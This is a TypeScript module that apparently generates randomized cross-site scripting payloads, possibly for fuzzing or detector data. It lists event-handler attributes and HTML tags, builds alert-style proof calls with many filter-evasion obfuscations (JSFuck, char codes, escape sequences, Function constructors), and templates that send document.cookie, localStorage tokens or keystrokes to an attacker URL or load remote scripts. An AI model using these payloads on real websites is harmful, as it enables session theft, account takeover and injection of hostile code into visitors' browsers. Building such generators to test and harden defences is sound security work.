import { altered, integer, letters, maybe, mostly, oneOf, repeat, text, words } from '../template.ts';
import { attackerUrl, LOWER, lowerWord, mixCase } from './shared.ts';

/** Event handler content attributes of the HTML, SVG, touch, pointer, animation and legacy browser interfaces. */
export const eventHandler = altered(
  words(`onabort onactivate onafterprint onafterscriptexecute onafterupdate onanimationcancel onanimationend onanimationiteration onanimationstart onariarequest
  onauxclick onbeforeactivate onbeforecopy onbeforecut onbeforedeactivate onbeforeeditfocus onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforescriptexecute
  onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel oncanplay oncanplaythrough oncellchange onchange onclick onclose oncontentvisibilityautostatechange oncontextlost oncontextmenu
  oncontextrestored oncontrolselect oncopy oncuechange oncut ondataavailable ondatasetchanged ondatasetcomplete ondblclick ondeactivate ondrag ondragend ondragenter
  ondragexit ondragleave ondragover ondragstart ondrop ondurationchange onemptied onend onended onerror onerrorupdate onfilterchange onfinish onfocus onfocusin
  onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange onhelp oninput oninvalid onkeydown onkeypress onkeyup onlanguagechange onlayoutcomplete onload
  onloadeddata onloadedmetadata onloadend onloadstart onlosecapture onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout
  onmouseover onmouseup onmousewheel onmove onmoveend onmovestart onmozfullscreenchange onoffline ononline onpagehide onpagereveal onpageshow onpageswap onpaste onpause onplay onplaying onpointercancel
  onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onpropertychange
  onratechange onreadystatechange onrejectionhandled onrepeat onreset onresize onresizeend onresizestart onrowenter onrowexit onrowsdelete onrowsinserted onscroll onscrollend
  onscrollsnapchange onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onshow onslotchange onstalled onstart onstop onstorage onsubmit onsuspend
  onsyncrestored ontimeerror ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontrackchange ontransitioncancel ontransitionend ontransitionrun
  ontransitionstart onunhandledrejection onunload onurlflip onvolumechange onwaiting onwebkitanimationend onwebkitanimationiteration onwebkitanimationstart onwebkittransitionend onwheel onzoom`),
  (name, rng) =>
    rng.chance(0.75) ? name : rng.chance(0.5) ? 'on' + name.charAt(2).toUpperCase() + name.slice(3) : mixCase(name, rng)
);
/** The handlers people reach for first, which fire without a visitor's help. */
export const favouriteHandler = mostly(
  [
    words(
      'onerror onload onclick onmouseover onfocus ontoggle onstart onbegin onpageshow oninput onanimationstart onpointerenter'
    ),
    3
  ],
  [eventHandler, 2]
);

export const tag = mostly(
  [
    words(
      'a abbr address area article aside audio b base bdi bdo blockquote body br button canvas caption cite code col colgroup data datalist dd del details dfn dialog div dl dt em embed fieldset figcaption figure footer form frame frameset h1 h2 h3 head header hr html i iframe img input ins kbd label legend li link main map mark marquee menu meta meter nav noscript object ol optgroup option output p param picture pre progress q s samp script section select slot small source span strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track u ul var video wbr xmp applet bgsound isindex keygen listing plaintext image blink center font multicol nobr'
    ),
    5
  ],
  [words('img svg body input details video audio iframe marquee div a button object embed select textarea form'), 5],
  [text`${words('x xss custom foo a1 my')}${maybe(text`-${lowerWord}`)}`, 1]
);

export const dialogue = words('alert alert alert alert alert confirm prompt print write');
const shown = mostly(
  [integer(1, 9), 4],
  ["'xss'", 2],
  ['"xss"', 2],
  ['document.domain', 2],
  ['document.cookie', 3],
  ['/xss/', 1],
  ['`1`', 0.5],
  ['String.fromCharCode(88,83,83)', 1.2],
  [integer(10, 9999), 2],
  ['origin', 0.5],
  ['location', 0.4],
  ['this', 0.2],
  [text`'${lowerWord}'`, 1],
  [text`"${lowerWord}"`, 1],
  ['document.location', 0.3],
  ['window.origin', 0.3],
  ['localStorage.token', 0.2],
  ["'XSS by '+document.domain", 0.2],
  ['', 0.5],
  [text`String.fromCharCode(${repeat(integer(40, 122), 3, 20, ',')})`, 0.4],
  [text`/${lowerWord}/.source`, 0.3],
  [text`\\'${lowerWord}\\'`, 0.3],
  [text`&quot;${lowerWord}&quot;`, 0.3],
  [text`&#39;${lowerWord}&#39;`, 0.2]
);
const stolen = words(
  'document.cookie localStorage.getItem("token") document.body.innerHTML btoa(document.cookie) escape(document.cookie) encodeURIComponent(document.cookie) location.href JSON.stringify(localStorage)'
);
const callee = oneOf('top', 'window', 'self', 'parent', 'this', 'globalThis', 'frames', 'top.window');
const name = words('alert confirm prompt eval print');
const split = altered(name, (whole, rng) => {
  const at = rng.int(1, whole.length - 1);
  const quote = rng.pick(["'", '"', '`', '/']);
  return quote === '/'
    ? `/${whole.slice(0, at)}/.source+/${whole.slice(at)}/.source`
    : `${quote}${whole.slice(0, at)}${quote}+${quote}${whole.slice(at)}${quote}`;
});
const escapedName = altered(name, (whole, rng) => {
  const at = rng.int(0, whole.length - 1);
  const code = whole.charCodeAt(at).toString(16);
  return whole.slice(0, at) + rng.pick([`\\u00${code}`, `\\u{${code}}`, `\\u{0000${code}}`]) + whole.slice(at + 1);
});
const jsfuckAtom = oneOf(
  '[]',
  '![]',
  '!![]',
  '+[]',
  '+!![]',
  '[![]]',
  '[+[]]',
  '[+!+[]]',
  '(![]+[])',
  '(!![]+[])',
  '[][[]]',
  '([![]]+[][[]])',
  '(+{}+[])',
  '!+[]'
);

/** JavaScript that shows the attacker's code runs, or sends something away. */
export const script = mostly(
  [text`${dialogue}(${shown})`, 14],
  [text`${dialogue}\`${oneOf('1', lowerWord, 'xss', '')}\``, 2],
  [text`${dialogue}(${shown});`, 1],
  [text`${callee}.${dialogue}(${shown})`, 1.2],
  [
    text`${callee}[${oneOf(
      "'alert'",
      '"alert"',
      split,
      "'al\\x65rt'",
      "'\\x61lert'",
      altered(name, (whole) => `${parseInt(whole, 36)}..toString(36)`),
      "atob('YWxlcnQ=')",
      "'ale'.concat('rt')",
      "`al${'e'}rt`"
    )}](${shown})`,
    1.6
  ],
  [text`(${oneOf('alert', 'confirm', 'prompt', '_=alert', 'a=alert')})(${shown})`, 0.7],
  [text`${oneOf('a', 'x', '_', letters(LOWER, 1, 3))}=${dialogue},${letters(LOWER, 1)}(${integer(1, 9)})`, 0.4],
  [text`[${integer(1, 9)}].${words('find map forEach some every filter reduce sort findIndex')}(${dialogue})`, 0.7],
  [text`${escapedName}(${shown})`, 0.9],
  [
    text`eval(${oneOf(
      'name',
      "'al'+'ert(1)'",
      "atob('YWxlcnQoMSk=')",
      text`String.fromCharCode(${repeat(integer(40, 122), 5, 20, ',')})`,
      'location.hash.slice(1)',
      'location.hash.substr(1)',
      altered(
        text`${name}(${integer(1, 9)})`,
        (call) => `unescape('${Array.from(call, (letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')}')`
      ),
      altered(
        text`${name}(${integer(1, 9)})`,
        (call) => `'${Array.from(call, (letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('')}'`
      ),
      'URL',
      'event.data'
    )})`,
    1.4
  ],
  [
    text`${words('setTimeout setInterval')}(${oneOf(text`'${dialogue}(${shown})'`, dialogue, text`'al'+'ert(1)'`, "'alert\\x281\\x29'")}${maybe(text`,${integer(0, 999)}`)})`,
    0.7
  ],
  [
    text`${oneOf('Function', 'new Function', '[].constructor.constructor', "''.sub.constructor", '[]["filter"]["constructor"]', "Reflect.construct(Function,['alert(1)'])", 'Array.from.constructor')}(${oneOf(text`'${dialogue}(${integer(1, 9)})'`, text`"alert(${integer(1, 9)})"`, 'atob`YWxlcnQoMSk`')})()`,
    0.9
  ],
  [
    oneOf(
      text`${maybe('window.')}onerror=${name};throw${oneOf(' ', "'", '"')}${shown}`,
      text`throw onerror=${name},${shown}`,
      text`{onerror=${name}}throw ${shown}`,
      text`onerror=eval;throw'=${name}\\x28${integer(1, 9)}\\x29'`
    ),
    0.6
  ],
  [
    text`${maybe('window.')}location${maybe('.href')}=${oneOf(text`'${attackerUrl}${maybe(text`?c='+${stolen}`, 0.7)}`, text`'javas'+'cript:al'+'ert%28' + ${integer(1, 9)} + '%29'`, 'name', text`'javascript:alert%281%29'`, text`"${attackerUrl}"`)}`,
    1
  ],
  [
    text`document.location${oneOf('=', '.href=', '.replace(')}${oneOf("'", '"')}${attackerUrl}?c${oneOf("ookie='+", '="+')}${stolen}${maybe(')')}`,
    1
  ],
  [
    text`${oneOf('new Image().src', 'new Image().src', '(new Image).src', "document.createElement('img').src", 'i=new Image;i.src')}=${oneOf("'", '"', '`')}${attackerUrl}?${letters(LOWER, 1, 4)}=${oneOf("'+", '"+', '${')}${stolen}`,
    1.2
  ],
  [
    text`fetch(${oneOf("'", '"', '`')}${attackerUrl}${oneOf(text`?c='+${stolen})`, text`',{method:'POST',body:${stolen}})`, text`?d=\${${stolen}}\`)`, "')", text`').then(r=>r.text()).then(eval)`, text`',{mode:'no-cors',method:'post',body:document.cookie})`)}`,
    1.4
  ],
  [text`navigator.sendBeacon('${attackerUrl}',${stolen})`, 0.4],
  [
    text`document.write(${oneOf(stolen, text`'<script src=${attackerUrl}></script>'`, text`'<img src="${attackerUrl}?c='+document.cookie+'">'`, "'<h1>hacked</h1>'", text`String.fromCharCode(${repeat(integer(40, 122), 4, 14, ',')})`)})`,
    0.9
  ],
  [
    text`document.body.${oneOf('innerHTML', 'outerHTML')}=${oneOf("'<h1>hacked</h1>'", text`'<img src=x onerror=alert(${integer(1, 9)})>'`, stolen)}`,
    0.4
  ],
  [text`${oneOf("import('", '$.getScript("', "importScripts('", '$.get("')}${attackerUrl}${oneOf("')", '")')}`, 0.5],
  [
    text`with(document)${oneOf('body', 'head', 'documentElement')}.${oneOf('appendChild', 'append', 'prepend')}(createElement('script')).src='${attackerUrl}'`,
    0.3
  ],
  [
    text`var ${letters(LOWER, 1, 4)}=document.createElement('script');${letters(LOWER, 1, 4)}.src='${attackerUrl}';document.${oneOf('body', 'head', 'documentElement')}.appendChild(${letters(LOWER, 1, 4)})`,
    0.6
  ],
  [text`x=new XMLHttpRequest();x.open('GET','${attackerUrl}?'+document.cookie${maybe(',true')});x.send()`, 0.5],
  [text`document.onkeypress=function(e){fetch('${attackerUrl}?k='+e.key)}`, 0.2],
  [text`document.forms[0].action='${attackerUrl}'`, 0.2],
  [text`${repeat(jsfuckAtom, 12, 60, oneOf('+', '+', '', ','))}`, 0.6],
  [text`${repeat(letters('$_', 1, 6), 3, 8, oneOf('=~[];', '={', '+', '.', '=(', ']+', '[', '+(!""+"")['))}`, 0.2],
  [text`Set.constructor\`alert\\x281\\x29\`\`\``, 0.3],
  [text`${words('valueOf toString')}=${dialogue};window+${oneOf("''", '1')}`, 0.2],
  [text`console.log(${stolen})`, 0.3],
  [text`debugger;${dialogue}(1)`, 0.1],
  [text`javascript:${dialogue}(${shown})`, 0.4],
  [text`window.open(${oneOf(text`'javascript:alert(1)'`, text`'${attackerUrl}?'+document.cookie`)})`, 0.3],
  [text`parent.postMessage(document.cookie,'*')`, 0.2],
  [text`alert(${oneOf('', 'document', 'window', 'self')}${oneOf("['cookie']", '.cookie', "['coo'+'kie']")})`, 0.5],
  [text`document.${words('cookie domain title vulnerable')}=${words('true 1 null')}${maybe(';')}`, 0.5],
  [text`${oneOf('window.', '')}${words('popup xss pwned x hacked')}=${integer(1, 9)};`, 0.4],
  [text`${oneOf('xss', 'evil()', 'XSS', 'payload()', text`${lowerWord}()`, 'print()')}`, 0.4],
  [text`history.${words('back pushState replaceState')}(${integer(0, 9)})`, 0.1]
);

const letterReference = (
  character: string,
  rng: { int: (a: number, b: number) => number; chance: (p: number) => boolean }
): string => {
  const code = character.charCodeAt(0);
  const zeros = '0'.repeat(rng.chance(0.3) ? rng.int(1, 5) : 0);
  const end = rng.chance(0.8) ? ';' : '';
  return rng.chance(0.5) ? `&#${zeros}${code}${end}` : `&#x${zeros}${code.toString(16)}${end}`;
};
/** Character references for some letters, or all of them, as a browser reads attribute values. */
export const withReferences =
  (share: number) =>
  (written: string, rng: Parameters<typeof letterReference>[1]): string => {
    let referenced = '';
    for (const character of written) referenced += rng.chance(share) ? letterReference(character, rng) : character;
    return referenced;
  };
